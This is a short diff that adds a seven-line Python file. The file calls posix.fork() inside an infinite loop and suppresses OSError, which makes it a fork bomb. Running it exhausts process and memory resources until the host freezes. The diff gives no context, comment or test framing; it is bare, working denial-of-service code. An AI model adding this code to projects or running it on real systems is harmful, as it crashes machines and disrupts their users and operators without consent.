@@ -1,0 +1,7 @@
+import posix
+
+while True:
+    try:
+        posix.fork()
+    except OSError:
+        pass
